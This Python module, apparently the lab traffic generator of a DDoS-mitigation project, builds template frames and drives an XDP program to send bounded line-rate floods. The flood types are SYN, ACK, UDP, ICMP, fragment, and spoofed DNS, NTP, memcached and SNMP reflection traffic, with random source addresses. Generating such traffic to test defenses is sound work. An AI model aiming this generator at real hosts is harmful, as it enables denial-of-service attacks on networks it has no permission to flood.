"""`edgewarden flood`: attack floods at line rate from one machine. A small
XDP program (bpf/flood_gen.bpf.c), run with BPF_PROG_RUN in live-frames mode
from several threads, turns a template frame into frames transmitted out of
the attacker's interface with random sources from a prefix and per-packet
port variation. Always bounded in packets and seconds."""

from __future__ import annotations

import fcntl
import ipaddress
import socket
import struct
import threading
import time
from dataclasses import dataclass
from importlib import resources
from pathlib import Path

from agent._libbpf import lib
from agent.checksum import internet_checksum
from agent.datapath.bpf_object import BpfObject
from agent.datapath.syscalls import BpfError

IPPROTO_ICMP, IPPROTO_TCP, IPPROTO_UDP = 1, 6, 17
TCP_SYN, TCP_ACK = 0x02, 0x10
RUN_CHUNK = 65536          # repetitions per BPF_PROG_RUN call: bounds each call's duration
GEN_HEADER_MAX = 64        # struct gen_config.header in bpf/flood_gen.bpf.c
GEN_CONFIG_FORMAT = f"=IIHHHHII{GEN_HEADER_MAX}s16s16s"   # ... header, src6_base, src6_mask
GEN_CONFIG_SIZE = struct.calcsize(GEN_CONFIG_FORMAT)


@dataclass(frozen=True)
class FloodType:
    """A template and which fields vary per packet."""

    description: str
    proto: int
    sport: int | None = None          # fixed source port (reflection), None: random
    tcp_flags: int = 0
    payload_size: int = 0
    fragment: bool = False


FLOOD_TYPES: dict[str, FloodType] = {
    "syn": FloodType("TCP SYN flood, random spoofed sources and ports", IPPROTO_TCP, tcp_flags=TCP_SYN),
    "synack": FloodType("TCP SYN-ACK reflection from port 80", IPPROTO_TCP, sport=80, tcp_flags=TCP_SYN | TCP_ACK),
    "ack": FloodType("TCP ACK flood", IPPROTO_TCP, tcp_flags=TCP_ACK),
    "udp": FloodType("UDP flood, random ports", IPPROTO_UDP, payload_size=64),
    "dns": FloodType("DNS amplification responses (from port 53)", IPPROTO_UDP, sport=53, payload_size=1200),
    "ntp": FloodType("NTP monlist responses (from port 123)", IPPROTO_UDP, sport=123, payload_size=440),
    "memcached": FloodType("memcached amplification (from port 11211)", IPPROTO_UDP, sport=11211, payload_size=1400),
    "snmp": FloodType("SNMP reflection (from port 161)", IPPROTO_UDP, sport=161, payload_size=400),
    "icmp": FloodType("ICMP echo flood", IPPROTO_ICMP, payload_size=56),
    "fragment": FloodType("IPv4 non-first fragments", IPPROTO_UDP, payload_size=1200, fragment=True),
}
IPPROTO_ICMPV6 = 58
DEFAULT_SOURCES = {4: "203.0.113.128/25", 6: "2001:db8:f00d::/48"}




def template_frame(kind: FloodType, src_mac: bytes, dst_mac: bytes, target: str, dport: int) -> tuple[bytes, int]:
    """(frame, L4 bytes the generator checksums: 0 for IPv4 ICMP and fragments,
    whose checksums do not cover the fields it changes). An IPv6 `target`
    makes an IPv6 frame (ICMP becomes ICMPv6 echo; no fragment floods)."""
    v6 = ipaddress.ip_address(target).version == 6
    if v6 and kind.fragment:
        raise ValueError("fragment floods are IPv4 only")
    payload = bytes((i * 7) & 0xFF for i in range(kind.payload_size))
    if kind.proto == IPPROTO_TCP:
        mss = b"\x02\x04\x05\xb4" if kind.tcp_flags & TCP_SYN else b""
        header_len = 20 + len(mss)
        l4 = struct.pack("!HHIIBBHHH", kind.sport or 40000, dport, 0, 0, (header_len // 4) << 4,
                         kind.tcp_flags, 65535, 0, 0) + mss
    elif kind.proto == IPPROTO_UDP:
        l4 = struct.pack("!HHHH", kind.sport or 40000, dport, 8 + len(payload), 0) + payload
    else:
        body = struct.pack("!BBHHH", 128 if v6 else 8, 0, 0, 0x4557, 1) + payload
        l4 = body if v6 else body[:2] + struct.pack("!H", internet_checksum(body)) + body[4:]
    checksummed = 0 if (kind.proto == IPPROTO_ICMP and not v6) or kind.fragment else len(l4)
    if checksummed % 4:            # the generator sums whole words: pad the segment
        l4 += bytes(4 - checksummed % 4)
        checksummed = len(l4)
        if kind.proto == IPPROTO_UDP:
            l4 = l4[:4] + struct.pack("!H", len(l4)) + l4[6:]
    if v6:
        next_header = IPPROTO_ICMPV6 if kind.proto == IPPROTO_ICMP else kind.proto
        ip = struct.pack("!IHBB16s16s", 6 << 28, len(l4), next_header, 64, bytes(16),
                         ipaddress.IPv6Address(target).packed)
        return dst_mac + src_mac + b"\x86\xdd" + ip + l4, checksummed
    frag_field = 185 if kind.fragment else 0x4000         # a non-first fragment, or DF
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0, frag_field, 64, kind.proto, 0,
                     ipaddress.IPv4Address("0.0.0.0").packed, ipaddress.IPv4Address(target).packed)
    return dst_mac + src_mac + b"\x08\x00" + ip + l4, checksummed


@dataclass
class FloodResult:
    kind: str
    packets: int
    seconds: float
    threads: int

    @property
    def pps(self) -> float:
        return self.packets / self.seconds if self.seconds else 0.0


class FloodGenerator:
    """The generator program with its config and counter maps."""

    def __init__(self):
        self._object = BpfObject(Path(str(resources.files("agent.lab") / "flood_gen.bpf.o")))
        self.prog_fd = self._object.program_fd("flood_gen")
        self.config = self._object.map("gen_config", "__u32", f"char[{GEN_CONFIG_SIZE}]")
        self.sent = self._object.map("gen_sent", "__u32", "__u64", percpu=True)

    def close(self) -> None:
        self._object.close()

    def __enter__(self) -> "FloodGenerator":
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    def configure(self, source: ipaddress.IPv4Network | ipaddress.IPv6Network, kind: FloodType, l4_length: int,
                  dport_span: tuple[int, int] | None, template: bytes) -> None:
        sport = (1024, 64511) if kind.sport is None and kind.proto != IPPROTO_ICMP and not kind.fragment else (0, 0)
        dport = dport_span or (0, 0)
        header = template[:GEN_HEADER_MAX]
        header_len = len(header) & ~1       # written in 16-bit words; an odd last byte is never changed
        v4 = source.version == 4
        self.config.update(b"\0\0\0\0", struct.pack(
            GEN_CONFIG_FORMAT, int(source.network_address) if v4 else 0, int(source.hostmask) if v4 else 0,
            sport[0], sport[1], dport[0], dport[1], l4_length, header_len, header,
            b"" if v4 else source.network_address.packed, b"" if v4 else source.hostmask.packed))

    def sent_total(self) -> int:
        raw = self.sent.lookup(b"\0\0\0\0")
        return sum(struct.unpack(f"={len(raw) // 8}Q", raw))

    def run(self, frame: bytes, ifindex: int, packets: int, seconds: float, threads: int) -> tuple[int, float]:
        """Send until `packets` or `seconds`, whichever first; (sent, elapsed)."""
        deadline = time.monotonic() + seconds
        budget = [packets]
        lock = threading.Lock()
        errors: list[str] = []

        def worker() -> None:
            while time.monotonic() < deadline:
                with lock:
                    chunk = min(RUN_CHUNK, budget[0])
                    budget[0] -= chunk
                if chunk <= 0:
                    return
                rc = lib.ew_prog_run_live(self.prog_fd, frame, len(frame), ifindex, chunk, 64)
                if rc < 0:
                    errors.append(f"BPF_PROG_RUN (live frames): {BpfError(-rc, 'flood').strerror}")
                    return

        before = self.sent_total()
        start = time.monotonic()
        workers = [threading.Thread(target=worker) for _ in range(threads)]
        for w in workers:
            w.start()
        for w in workers:
            w.join()
        elapsed = time.monotonic() - start
        if errors:
            raise BpfError(5, errors[0])
        return self.sent_total() - before, elapsed


SIOCGIFHWADDR = 0x8927


def interface_mac(interface: str) -> bytes:
    """The interface's MAC in the caller's network namespace (under nsenter
    --net, /sys/class/net still shows the namespace sysfs was mounted in)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        request = fcntl.ioctl(s.fileno(), SIOCGIFHWADDR, struct.pack("256s", interface.encode()[:15]))
    return request[18:24]


def flood(kind_name: str, interface: str, target: str, dst_mac: str, *, dport: int = 80,
          dport_range: tuple[int, int] | None = None, source: str | None = None,
          packets: int = 1_000_000, seconds: float = 5.0, threads: int = 2) -> FloodResult:
    kind = FLOOD_TYPES[kind_name]
    family = ipaddress.ip_address(target).version
    network = ipaddress.ip_network(source or DEFAULT_SOURCES[family], strict=False)
    if network.version != family:
        raise ValueError(f"--source {network} and --target {target} are of different address families")
    ifindex = socket.if_nametoindex(interface)
    src_mac = interface_mac(interface)
    frame, l4_length = template_frame(kind, src_mac, bytes.fromhex(dst_mac.replace(":", "")), target, dport)
    if dport_range is None and kind.sport is not None:
        dport_range = (1024, 64511)     # reflected responses land on random client ports
    with FloodGenerator() as generator:
        generator.configure(network, kind, l4_length, dport_range, frame)
        sent, elapsed = generator.run(frame, ifindex, packets, seconds, threads)
    return FloodResult(kind_name, sent, elapsed, threads)
